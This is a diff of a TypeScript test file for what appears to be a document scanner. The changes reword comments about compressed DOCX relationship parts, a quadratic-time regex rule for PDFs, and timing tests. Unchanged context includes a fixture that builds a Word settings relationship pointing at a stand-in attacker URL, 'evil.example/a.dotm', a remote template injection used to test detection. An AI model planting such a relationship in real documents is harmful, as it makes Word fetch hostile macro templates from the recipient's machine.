@@ -10,11 +10,11 @@ const RELS = "word/_rels/settings.xml.rels";
 const relation = (type: string, mode: string) =>
   `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/a.dotm" ${mode}/></Relationships>`;
 
-/** With the relations deflated, as Word does it. */
+/** With its relationships deflated, as Word writes them. */
 function packedRelations(packed: string): Uint8Array {
   const bytes = Buffer.from(aDocx({ [RELS]: "x".repeat(packed.length) }));
   bytes.write(packed, bytes.indexOf("x".repeat(packed.length)), "latin1");
-  // The method, in the archive's list of contents.
+  // The compression method, in the central directory.
   bytes.writeUInt16LE(8, bytes.lastIndexOf(RELS) - 46 + 10);
   return bytes;
 }
@@ -43,7 +43,7 @@ describe("a PDF", () => {
   });
 });
 
-/** The rule as a regular expression, which says it well and takes the square of a file's length. */
+/** The same rule as a regular expression: readable, but quadratic in the length of a file. */
 const GAP = String.raw`(?:[\s\0]|%[^\r\n]*[\r\n])*`;
 const RULE = new RegExp(
   [
@@ -93,7 +93,7 @@ it("judges a PDF by the same rule wherever names, gaps and values stand", () => 
   );
 });
 
-/** Ten megabytes take a fraction of this on a busy machine; the square of a hundredth of them took half a minute. */
+/** Ten megabytes take a fraction of this on a busy machine; quadratic, a hundredth of them took half a minute. */
 const MAX_MS = 20_000;
 const timed = (work: () => unknown) => {
   const startMs = performance.now();
@@ -101,7 +101,7 @@ const timed = (work: () => unknown) => {
   return performance.now() - startMs;
 };
 
-// The small ones first: where the time grows with the square, the large ones would never end.
+// Small sizes first: where the time is quadratic, the large ones would never end.
 describe.each([
   ["200 KB", 200_000],
   ["10 MB", 10_000_000],
